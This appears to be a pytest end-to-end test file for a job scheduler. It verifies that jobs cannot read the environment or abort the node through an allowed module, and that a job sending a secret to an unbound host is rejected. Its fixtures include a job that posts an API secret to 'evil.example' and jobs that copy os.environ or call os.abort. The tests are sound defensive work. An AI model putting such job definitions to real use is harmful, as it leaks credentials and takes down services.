"""Boundaries of a node, as a process: names that lead out of a module, and secrets that are bound to hosts."""

from __future__ import annotations

import signal
from pathlib import Path

import pytest

from tests.e2e.cli.program import Program

WALKING = """
store = "sqlite:///runs.db"
allow_modules = ["reports"]
"""
JOB = """
[jobs.{name}]
schedule = {{ every = "1s" }}
tasks = [{{ name = "do", python = "reports:{function}", executor = "{executor}" }}]
"""
REPORTS = """
import os
from os import abort, environ

def good():
    return "good"
"""
CALLING = """
secret_hosts = { API = ["api.example.com"] }

[jobs.send]
schedule = "0 5 * * *"
tasks = [{ name = "call", http = "https://evil.example/", headers = { Authorization = { secret = "API" } } }]
"""


@pytest.mark.spec("Q3", "functions of a module that the operator allows")
def test_no_job_reaches_the_environment_or_ends_the_node_through_an_allowed_module(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ways = {"env": "os.environ.copy", "more": "environ.copy", "end": "os.abort", "off": "abort", "well": "good"}
    jobs = [
        JOB.format(name=f"{name}-{executor}", function=function, executor=executor)
        for name, function in ways.items()
        for executor in ("auto", "process")
    ]
    (tmp_path / "jobs.toml").write_text(WALKING + "".join(jobs), "utf-8")
    (tmp_path / "reports.py").write_text(REPORTS, "utf-8")
    monkeypatch.setenv("CANARY", "correct-horse-battery-staple")
    waiting = {f"{name}-{executor}" for name in ways for executor in ("auto", "process")}
    with Program(tmp_path, "up", "jobs.toml") as program:
        while waiting:
            line = program.until(lambda line: any(name in line for name in waiting) and _is_end(line))
            name = next(one for one in waiting if one in line)
            assert ("completed" in line) == name.startswith("well-"), line
            waiting.discard(name)
        program.signal(signal.SIGTERM)
        assert program.end() == 0, "no job has ended the node"
    for file in tmp_path.glob("runs.db*"):
        assert b"correct-horse-battery-staple" not in file.read_bytes()
    assert any("leads through the module os" in line for line in (*program.output, *program.errors))


def _is_end(line: str) -> bool:
    return "completed" in line or "failed" in line


@pytest.mark.spec("Q7", "hosts of secrets")
def test_check_refuses_a_job_file_that_sends_a_secret_to_a_host_it_is_not_bound_to(tmp_path: Path) -> None:
    (tmp_path / "jobs.toml").write_text(CALLING, "utf-8")
    with Program(tmp_path, "check", "jobs.toml") as program:
        assert program.end() != 0
    told = "\n".join((*program.output, *program.errors))
    assert "jobs.toml:6: jobs.send.tasks[0].headers.Authorization: secret API may be sent to api.example.com" in told
    (tmp_path / "jobs.toml").write_text(CALLING.replace("evil.example", "api.example.com"), "utf-8")
    with Program(tmp_path, "check", "jobs.toml") as program:
        assert program.end() == 0
